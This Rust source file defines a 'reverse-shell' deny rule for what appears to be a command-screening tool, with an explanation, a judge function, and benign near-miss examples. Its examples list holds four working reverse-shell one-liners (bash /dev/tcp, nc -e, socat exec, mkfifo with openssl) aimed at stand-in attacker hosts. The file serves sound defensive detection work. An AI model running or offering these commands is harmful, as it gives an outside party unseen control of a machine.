//! A shell that calls home.

use super::{listens, remotely_driven};
use crate::facts::Facts;
use crate::finding::Stance;
use crate::rules::rule::{Layer, Report, Rule};

/// A shell whose input and output are a connection to another machine.
pub static REVERSE_SHELL: Rule = Rule {
    name: "reverse-shell",
    title: "reverse shell",
    layer: Layer::Command,
    stance: Stance::Deny,
    finds: "A shell or interpreter whose input and output are wired to a connection that this machine opens.",
    matters: "Whoever holds the other end can do anything this account can, unseen.",
    instead: "Use ssh with an account of its own for whoever needs access.",
    suggestion: "",
    examples: &[
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        "nc -e /bin/sh attacker.example 4444",
        "socat tcp-connect:attacker.example:4444 exec:/bin/sh,pty,stderr",
        "mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect attacker.example:443 > /tmp/f",
    ],
    near_misses: &[
        "nc -zv db.example 5432",
        "socat - TCP:localhost:6379",
        "echo PING > /dev/tcp/localhost/6379",
        "ssh build.example uptime",
    ],
    judge,
};

fn judge(facts: &Facts, report: &mut Report<'_>) {
    if listens(facts) {
        return;
    }
    for effect in remotely_driven(facts) {
        report.effect(effect, "hands a shell to the other end of a connection");
    }
}
